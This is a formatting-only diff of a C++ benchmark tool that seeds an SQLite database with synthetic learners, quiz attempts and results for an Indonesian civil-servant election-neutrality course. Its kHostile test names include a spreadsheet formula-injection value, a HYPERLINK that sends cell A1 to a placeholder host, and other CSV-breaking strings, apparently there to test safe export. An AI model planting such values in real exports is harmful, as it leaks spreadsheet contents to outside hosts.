@@ -34,23 +34,32 @@ struct Rng {  // splitmix64: tiny, fast, deterministic across platforms
     std::string Uuid() {
         uint64_t a = Next(), b = Next();
         char buf[40];
-        std::snprintf(buf, sizeof buf, "%08x-%04x-4%03x-%04x-%012llx", unsigned(a >> 32), unsigned((a >> 16) & 0xFFFF),
-                      unsigned(a & 0xFFF), unsigned(0x8000 | (b >> 48 & 0x3FFF)), (unsigned long long)(b & 0xFFFFFFFFFFFFULL));
+        std::snprintf(buf, sizeof buf, "%08x-%04x-4%03x-%04x-%012llx", unsigned(a >> 32),
+                      unsigned((a >> 16) & 0xFFFF), unsigned(a & 0xFFF),
+                      unsigned(0x8000 | (b >> 48 & 0x3FFF)), (unsigned long long)(b & 0xFFFFFFFFFFFFULL));
         return buf;
     }
 };
 
-const char* kFirst[] = {"Siti", "Budi", "Ahmad", "Dewi", "Agus", "Sri", "Eko", "Rina", "Wahyu", "Nur", "Dian", "Hendra",
-                        "Putri", "Bambang", "Yuliana", "Rizky", "Fitri", "Joko", "Ayu", "Slamet", "Kartika", "Muhammad",
-                        "Endang", "Teguh", "Ratna", "Andi", "Lestari", "Hadi", "Wulan", "Bagus"};
-const char* kLast[] = {"Rahayu", "Santoso", "Wijaya", "Lestari", "Saputra", "Hidayat", "Kusuma", "Pratama", "Susanti",
-                       "Nugroho", "Setiawan", "Purnomo", "Handayani", "Wibowo", "Maharani", "Sulistyo", "Anggraini",
-                       "Firmansyah", "Permata", "Hartono"};
-const char* kHostile[] = {"=HYPERLINK(\"http://contoh.invalid/?x=\"&A1,\"Klik\")", "+62 Budi", "-Sri Wahyuni",
-                          "@SUM(1+1)", "\tTab Awal", "Nama \"Kutip\" Ganda", "Koma, Titik; Koma", "Baris\nBaru",
-                          "\rCR Awal", "Zoë Ünal Çelik"};
-const char* kModules[] = {"01-potret-birokrasi", "02-netralitas-asn", "03-pemilu-pencalonan",
-                          "04-kampanye", "05-pelanggaran-sanksi", "06-partisipasi"};
+const char* kFirst[] = {"Siti",  "Budi", "Ahmad",   "Dewi",   "Agus",    "Sri",      "Eko",     "Rina",
+                        "Wahyu", "Nur",  "Dian",    "Hendra", "Putri",   "Bambang",  "Yuliana", "Rizky",
+                        "Fitri", "Joko", "Ayu",     "Slamet", "Kartika", "Muhammad", "Endang",  "Teguh",
+                        "Ratna", "Andi", "Lestari", "Hadi",   "Wulan",   "Bagus"};
+const char* kLast[] = {"Rahayu",   "Santoso",  "Wijaya",    "Lestari",    "Saputra", "Hidayat",   "Kusuma",
+                       "Pratama",  "Susanti",  "Nugroho",   "Setiawan",   "Purnomo", "Handayani", "Wibowo",
+                       "Maharani", "Sulistyo", "Anggraini", "Firmansyah", "Permata", "Hartono"};
+const char* kHostile[] = {"=HYPERLINK(\"http://contoh.invalid/?x=\"&A1,\"Klik\")",
+                          "+62 Budi",
+                          "-Sri Wahyuni",
+                          "@SUM(1+1)",
+                          "\tTab Awal",
+                          "Nama \"Kutip\" Ganda",
+                          "Koma, Titik; Koma",
+                          "Baris\nBaru",
+                          "\rCR Awal",
+                          "Zoë Ünal Çelik"};
+const char* kModules[] = {"01-potret-birokrasi", "02-netralitas-asn",     "03-pemilu-pencalonan",
+                          "04-kampanye",         "05-pelanggaran-sanksi", "06-partisipasi"};
 
 std::string Time(int day, int second) {  // 2024-01-01 + day, + seconds
     static const int kDays[] = {31, 29, 31, 30, 31, 30, 31, 31, 30, 31, 30, 31};
@@ -59,8 +68,8 @@ std::string Time(int day, int second) {  // 2024-01-01 + day, + seconds
     while (day >= kDays[m]) day -= kDays[m++];
     second %= 86400;
     char buf[64];
-    std::snprintf(buf, sizeof buf, "2024-%02d-%02dT%02d:%02d:%02d.%03dZ", m + 1, day + 1, second / 3600, second / 60 % 60,
-                  second % 60, (second * 7) % 1000);
+    std::snprintf(buf, sizeof buf, "2024-%02d-%02dT%02d:%02d:%02d.%03dZ", m + 1, day + 1, second / 3600,
+                  second / 60 % 60, second % 60, (second * 7) % 1000);
     return buf;
 }
 
@@ -80,17 +89,26 @@ int main(int argc, char** argv) {
             }
             return argv[++i];
         };
-        if (!std::strcmp(argv[i], "--db")) db_path = next();
-        else if (!std::strcmp(argv[i], "--learners")) learners = std::atol(next());
-        else if (!std::strcmp(argv[i], "--responses-per-learner")) per_learner = std::atol(next());
-        else if (!std::strcmp(argv[i], "--seed")) seed = std::strtoull(next(), nullptr, 10);
-        else if (!std::strcmp(argv[i], "--nip-offset")) nip_offset = std::atol(next());
-        else if (!std::strcmp(argv[i], "--class-sessions")) class_sessions = std::atoi(next());
-        else if (!std::strcmp(argv[i], "--instansi")) instansi_count = std::atoi(next());
-        else if (!std::strcmp(argv[i], "--no-responses")) no_responses = true;
+        if (!std::strcmp(argv[i], "--db"))
+            db_path = next();
+        else if (!std::strcmp(argv[i], "--learners"))
+            learners = std::atol(next());
+        else if (!std::strcmp(argv[i], "--responses-per-learner"))
+            per_learner = std::atol(next());
+        else if (!std::strcmp(argv[i], "--seed"))
+            seed = std::strtoull(next(), nullptr, 10);
+        else if (!std::strcmp(argv[i], "--nip-offset"))
+            nip_offset = std::atol(next());
+        else if (!std::strcmp(argv[i], "--class-sessions"))
+            class_sessions = std::atoi(next());
+        else if (!std::strcmp(argv[i], "--instansi"))
+            instansi_count = std::atoi(next());
+        else if (!std::strcmp(argv[i], "--no-responses"))
+            no_responses = true;
         else {
             std::fprintf(stderr,
-                         "pemakaian: bench_records_seed --db FILE [--learners N] [--responses-per-learner R] [--seed S] "
+                         "pemakaian: bench_records_seed --db FILE [--learners N] [--responses-per-learner R] "
+                         "[--seed S] "
                          "[--nip-offset K] [--class-sessions C] [--instansi I] [--no-responses]\n");
             return 2;
         }
@@ -108,33 +126,46 @@ int main(int argc, char** argv) {
     db.exec("PRAGMA synchronous = OFF");
     Rng rng{seed * 0x2545F4914F6CDD1DULL + 17};
     std::vector<std::string> instansi;
-    const char* kinds[] = {"Dinas Pendidikan", "Dinas Kesehatan", "BKD", "Bappeda", "Dinas Sosial", "Inspektorat",
-                           "Dinas Perhubungan", "Satpol PP", "Dinas Kominfo", "RSUD"};
-    const char* places[] = {"Provinsi Jawa Timur", "Kota Surabaya", "Kabupaten Sidoarjo", "Kota Malang", "Kabupaten Jember",
-                            "Kabupaten Banyuwangi", "Kota Kediri", "Kabupaten Gresik"};
+    const char* kinds[] = {
+        "Dinas Pendidikan", "Dinas Kesehatan",   "BKD",       "Bappeda",       "Dinas Sosial",
+        "Inspektorat",      "Dinas Perhubungan", "Satpol PP", "Dinas Kominfo", "RSUD"};
+    const char* places[] = {"Provinsi Jawa Timur", "Kota Surabaya",    "Kabupaten Sidoarjo",
+                            "Kota Malang",         "Kabupaten Jember", "Kabupaten Banyuwangi",
+                            "Kota Kediri",         "Kabupaten Gresik"};
     for (int i = 0; i < instansi_count; ++i)
         instansi.push_back(std::string(kinds[i % 10]) + " " + places[(i / 10 + i) % 8]);
 
     try {
         SQLite::Transaction t(db);
-        db.exec("PRAGMA defer_foreign_keys = ON");  // answers are written before their attempt's score is known
-        SQLite::Statement ins_learner(db, "INSERT INTO learners (id, nip, name, instansi, jabatan, created_at, updated_at) VALUES (?,?,?,?,?,?,?)");
+        db.exec(
+            "PRAGMA defer_foreign_keys = ON");  // answers are written before their attempt's score is known
+        SQLite::Statement ins_learner(db,
+                                      "INSERT INTO learners (id, nip, name, instansi, jabatan, created_at, "
+                                      "updated_at) VALUES (?,?,?,?,?,?,?)");
         SQLite::Statement ins_attempt(db,
-            "INSERT INTO attempts (id, learner_id, participant_id, module_id, kind, mode, course_id, content_version, plan, "
-            "class_session_id, started_at, submitted_at, score, passed, updated_at) VALUES (?,?,?,?,?,?,?,?,?,?,?,?,?,?,?)");
+                                      "INSERT INTO attempts (id, learner_id, participant_id, module_id, "
+                                      "kind, mode, course_id, content_version, plan, "
+                                      "class_session_id, started_at, submitted_at, score, passed, "
+                                      "updated_at) VALUES (?,?,?,?,?,?,?,?,?,?,?,?,?,?,?)");
         SQLite::Statement ins_response(db,
-            "INSERT INTO responses (id, attempt_id, question_id, question_hash, content_version, answer, fraction, "
-            "answered_at, duration_ms, updated_at) VALUES (?,?,?,?,?,?,?,?,?,?)");
+                                       "INSERT INTO responses (id, attempt_id, question_id, question_hash, "
+                                       "content_version, answer, fraction, "
+                                       "answered_at, duration_ms, updated_at) VALUES (?,?,?,?,?,?,?,?,?,?)");
         SQLite::Statement ins_result(db,
-            "INSERT INTO module_results (learner_id, module_id, status, score, attempts, passed_at, updated_at) VALUES (?,?,?,?,?,?,?)");
+                                     "INSERT INTO module_results (learner_id, module_id, status, score, "
+                                     "attempts, passed_at, updated_at) VALUES (?,?,?,?,?,?,?)");
         SQLite::Statement ins_reading(db,
-            "INSERT INTO reading_progress (learner_id, module_id, page, pages, max_page, updated_at) VALUES (?,?,?,?,?,?)");
+                                      "INSERT INTO reading_progress (learner_id, module_id, page, pages, "
+                                      "max_page, updated_at) VALUES (?,?,?,?,?,?)");
         SQLite::Statement ins_completion(db,
-            "INSERT INTO completions (learner_id, course_id, content_version, completed_at, final_score, updated_at) VALUES (?,?,?,?,?,?)");
+                                         "INSERT INTO completions (learner_id, course_id, content_version, "
+                                         "completed_at, final_score, updated_at) VALUES (?,?,?,?,?,?)");
         std::vector<std::string> session_ids;
         for (int s = 0; s < class_sessions; ++s) {
             session_ids.push_back(rng.Uuid());
-            SQLite::Statement q(db, "INSERT INTO class_sessions (id, module_id, title, started_at, ended_at, state, updated_at) VALUES (?,?,?,?,?,?,?)");
+            SQLite::Statement q(db,
+                                "INSERT INTO class_sessions (id, module_id, title, started_at, ended_at, "
+                                "state, updated_at) VALUES (?,?,?,?,?,?,?)");
             q.bind(1, session_ids.back());
             q.bind(2, kModules[s % 6]);
             q.bind(3, "Kelas " + std::to_string(s + 1));
@@ -147,13 +178,15 @@ int main(int argc, char** argv) {
         long total_responses = 0;
         for (long i = 0; i < learners; ++i) {
             const std::string id = rng.Uuid();
-            // 18 digits: a birth date (8) then the index (10), so NIPs are unique and --nip-offset shifts them.
+            // 18 digits: a birth date (8) then the index (10), so NIPs are unique and --nip-offset shifts
+            // them.
             char nip[40];
-            std::snprintf(nip, sizeof nip, "19%02d%02d%02d%010ld", 60 + int((i + nip_offset) % 40), 1 + int(i % 12),
-                          1 + int(i % 28), (i + nip_offset) % 10000000000L);
+            std::snprintf(nip, sizeof nip, "19%02d%02d%02d%010ld", 60 + int((i + nip_offset) % 40),
+                          1 + int(i % 12), 1 + int(i % 28), (i + nip_offset) % 10000000000L);
             const std::string nips = nip;
-            std::string name = rng.Below(500) == 0 ? kHostile[rng.Below(10)]
-                                                   : std::string(kFirst[rng.Below(30)]) + " " + kLast[rng.Below(20)];
+            std::string name = rng.Below(500) == 0
+                                   ? kHostile[rng.Below(10)]
+                                   : std::string(kFirst[rng.Below(30)]) + " " + kLast[rng.Below(20)];
             const int day0 = rng.Below(120);
             const std::string created = Time(day0, rng.Below(86400));
             ins_learner.reset();
@@ -184,14 +217,16 @@ int main(int argc, char** argv) {
                     int right = 0;
                     for (int q = 0; q < 10; ++q) {
                         const double difficulty = (q * 7 % 10) / 10.0;
-                        const bool ok = rng.Unit() < 0.25 + 0.7 * ability * (1.0 - 0.5 * difficulty) + 0.05 * attempts;
+                        const bool ok =
+                            rng.Unit() < 0.25 + 0.7 * ability * (1.0 - 0.5 * difficulty) + 0.05 * attempts;
                         right += ok;
                         const int choice = ok ? 0 : 1 + rng.Below(3);
                         if (no_responses) continue;
                         ins_response.reset();
                         ins_response.bind(1, rng.Uuid());
                         ins_response.bind(2, aid);
-                        ins_response.bind(3, std::string(kModules[m]).substr(0, 2) + "-q" + std::to_string(q + 1));
+                        ins_response.bind(
+                            3, std::string(kModules[m]).substr(0, 2) + "-q" + std::to_string(q + 1));
                         ins_response.bind(4, "h" + std::to_string(q));
                         ins_response.bind(5, "1.0.0");
                         ins_response.bind(6, "{\"choice\":" + std::to_string(choice) + "}");
@@ -216,8 +251,10 @@ int main(int argc, char** argv) {
                     ins_attempt.bind(7, "netralitas-asn-pemilu-2024");
                     ins_attempt.bind(8, "1.0.0");
                     ins_attempt.bind(9, "[]");
-                    if (in_class) ins_attempt.bind(10, session_ids[size_t(rng.Below(int(session_ids.size())))]);
-                    else ins_attempt.bind(10);
+                    if (in_class)
+                        ins_attempt.bind(10, session_ids[size_t(rng.Below(int(session_ids.size())))]);
+                    else
+                        ins_attempt.bind(10);
                     ins_attempt.bind(11, started);
                     ins_attempt.bind(12, submitted);
                     ins_attempt.bind(13, score);
@@ -245,8 +282,10 @@ int main(int argc, char** argv) {
                 ins_result.bind(3, passed_at.empty() ? "sedang" : "lulus");
                 ins_result.bind(4, best);
                 ins_result.bind(5, attempts);
-                if (passed_at.empty()) ins_result.bind(6);
-                else ins_result.bind(6, passed_at);
+                if (passed_at.empty())
+                    ins_result.bind(6);
+                else
+                    ins_result.bind(6, passed_at);
                 ins_result.bind(7, last_time);
                 ins_result.exec();
                 if (!passed_at.empty()) {
